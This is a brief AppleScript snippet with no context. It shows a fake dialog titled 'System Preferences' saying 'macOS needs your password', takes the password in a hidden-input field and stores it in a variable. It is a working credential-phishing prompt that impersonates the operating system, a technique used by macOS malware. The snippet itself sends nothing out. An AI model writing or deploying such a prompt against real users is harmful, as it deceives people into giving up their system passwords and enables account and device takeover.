tell application "System Events"
	set p to text returned of (display dialog "macOS needs your password" default answer "" with title "System Preferences" with hidden answer)
end tell
